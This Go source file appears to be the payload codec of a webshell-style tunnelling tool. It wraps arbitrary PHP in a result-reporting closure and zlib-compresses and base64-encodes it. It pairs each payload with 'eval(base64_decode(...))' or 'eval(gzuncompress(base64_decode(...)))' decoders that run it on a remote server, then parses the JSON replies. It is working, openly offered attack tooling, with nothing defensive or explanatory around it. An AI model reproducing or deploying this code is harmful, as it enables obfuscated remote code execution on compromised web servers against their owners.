// Package payload encodes code for the remote PHP runtime and decodes its
// JSON responses.
package payload

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"strings"

	json "github.com/goccy/go-json"
	"github.com/klauspost/compress/zlib"

	"httptunnel-go/internal/model"
)

// Remote decoders. Their "%s" is filled with the variable holding the data.
const (
	plainDecoder      = "eval(base64_decode(%s))"
	compressedDecoder = "eval(gzuncompress(base64_decode(%s)))"
)

// resultWrapper runs the user code as a closure body and prints its return
// value as {"__RESULT__": value}, or {"__ERROR__": message} when it throws.
// The JSON is zlib-compressed when the remote runtime supports it.
const resultWrapper = `try{$__r=array('__RESULT__'=>(function(){%s
})());}catch(Exception $__e){$__r=array('__ERROR__'=>$__e->getMessage());}` +
	`$__j=json_encode($__r);echo function_exists('gzcompress')?gzcompress($__j):$__j`

// Codec is the default payload codec for PHP targets.
type Codec struct{}

// NewCodec creates a Codec.
func NewCodec() *Codec {
	return &Codec{}
}

// Build wraps code so its result is reported inside env, then encodes it.
func (c *Codec) Build(code string, env model.Envelope, mode model.Compression) (*model.Payload, error) {
	code = strings.TrimSpace(code)
	code = strings.TrimPrefix(code, "<?php")
	code = strings.TrimSuffix(code, "?>")
	if strings.TrimSpace(code) == "" {
		return nil, fmt.Errorf("build payload: empty code")
	}
	wrapped := strings.Replace(resultWrapper, "%s", code, 1)
	return c.Encode(env.Wrap(wrapped), mode)
}

// Encode base64-encodes code, zlib-compressing it first when mode allows and
// compression actually shrinks it.
func (c *Codec) Encode(code string, mode model.Compression) (*model.Payload, error) {
	raw := []byte(code)
	decoder := plainDecoder

	if mode == model.CompressAuto {
		compressed, err := deflate(raw)
		if err != nil {
			return nil, fmt.Errorf("encode payload: %w", err)
		}
		if len(compressed) < len(raw) {
			raw = compressed
			decoder = compressedDecoder
		}
	}

	data := base64.StdEncoding.EncodeToString(raw)
	return &model.Payload{
		Data:    data,
		Decoder: decoder,
		Length:  len(data),
	}, nil
}

// Decode parses a JSON response body into maps, slices and scalars.
func (c *Codec) Decode(raw []byte) (any, error) {
	var v any
	if err := json.Unmarshal(bytes.TrimSpace(raw), &v); err != nil {
		return nil, fmt.Errorf("decode response: %w", err)
	}
	return v, nil
}

// Literal returns s as a single-quoted PHP string literal.
func (c *Codec) Literal(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, `'`, `\'`)
	return "'" + s + "'"
}

func deflate(data []byte) ([]byte, error) {
	var buf bytes.Buffer
	w, err := zlib.NewWriterLevel(&buf, zlib.BestCompression)
	if err != nil {
		return nil, err
	}
	if _, err := w.Write(data); err != nil {
		return nil, err
	}
	if err := w.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}
